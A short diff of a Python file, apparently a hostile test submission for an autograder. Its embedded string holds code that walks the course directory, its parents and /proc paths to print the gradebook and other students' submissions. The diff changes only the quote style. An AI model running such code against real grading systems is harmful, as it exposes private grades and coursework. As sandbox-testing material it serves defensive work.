@@ -1,6 +1,6 @@
 """Prints the gradebook, other submissions, and whatever else lies in the class directory."""
 
-FIRST = '''
+FIRST = """
 import os
 for folder in ("@COURSE@", ".", "..", "../..", "/proc/self/cwd/..", "/proc/1/root@COURSE@"):
     for where, _, names in os.walk(folder):
@@ -11,4 +11,4 @@ for folder in ("@COURSE@", ".", "..", "../..", "/proc/self/cwd/..", "/proc/1/roo
                 print(where, name, data[at:at + 80] if at >= 0 else len(data))
             except OSError as error:
                 print(error)
-'''
+"""
